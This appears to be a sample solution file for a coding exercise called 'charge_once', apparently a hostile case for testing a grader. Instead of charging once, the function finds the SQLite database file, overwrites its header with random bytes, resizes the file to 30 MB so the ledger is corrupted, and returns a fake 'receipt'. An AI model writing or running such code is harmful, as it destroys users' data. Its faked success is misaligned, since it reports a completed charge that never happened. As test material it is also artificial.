"""Overwrites the ledger with what is no database, and makes it as long as it can.

Exercise: charge_once
Outcome: misconception | raised
"""

import os


def charge_once(db, key, amount):
    path = db.execute("PRAGMA database_list").fetchone()[2]
    with open(path, "r+b") as file:
        file.write(b"SQLite format 3\0" + os.urandom(5_000))
        file.truncate(30_000_000)
    return "receipt"
